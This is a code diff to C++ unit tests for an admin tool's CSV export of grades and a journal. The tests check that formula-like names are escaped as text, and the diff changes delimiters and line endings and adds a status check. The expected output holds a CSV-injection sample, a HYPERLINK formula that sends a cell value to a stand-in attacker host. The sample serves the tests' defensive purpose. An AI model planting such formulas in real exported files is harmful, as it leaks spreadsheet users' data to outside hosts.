@@ -49,18 +49,21 @@ protected:
 TEST_F(CsvExport, GradesWriteFormulaNamesAsTextAndGradesAsNumbers) {
     const AdminRun run = runAdmin({u"grades"_s, u"--csv"_s});
     EXPECT_EQ(run.status, 0) << run.err.toStdString();
-    const QString grades = u",4,0,0,0,0,0,0,0,0,0\n"_s;
-    EXPECT_EQ(run.out.toStdString(),
-              (u"name,test1,test2,test3,test4,test5,test6,test7,test8,test9,test10\n"_s +
-               u"\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A3;\"\"Нажмите\"\")\""_s + grades +
-               u"'=1+1"_s + grades + u"'+1+1"_s + grades + u"'-2+3"_s + grades + u"'@SUM(1)"_s +
-               grades)
-                  .toStdString());
+    const QString grades = u";4;0;0;0;0;0;0;0;0;0\r\n"_s;
+    EXPECT_EQ(run.outBytes.toStdString(),
+              "\xEF\xBB\xBF" +
+                  (u"name;test1;test2;test3;test4;test5;test6;test7;test8;test9;test10\r\n"_s +
+                   u"\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A3;\"\"Нажмите\"\")\""_s +
+                   grades + u"'=1+1"_s + grades + u"'+1+1"_s + grades + u"'-2+3"_s + grades +
+                   u"'@SUM(1)"_s + grades)
+                      .toStdString());
 }
 
 TEST_F(CsvExport, TheJournalWritesFormulaNamesAsTextAndGradesAsNumbers) {
     const AdminRun run = runAdmin({u"journal"_s, u"--csv"_s});
-    EXPECT_EQ(run.status, 0) << run.err.toStdString();
+    // The table is whole; the status tells of the finished tests without an answer log.
+    EXPECT_EQ(run.status, 1) << run.err.toStdString();
+    EXPECT_EQ(run.err, u"velmora-admin: тестов без строк ответов: 5\n"_s);
     const QString grades = u";4;4,00\r\n"_s;
     EXPECT_EQ(run.outBytes.toStdString(),
               "\xEF\xBB\xBF" +
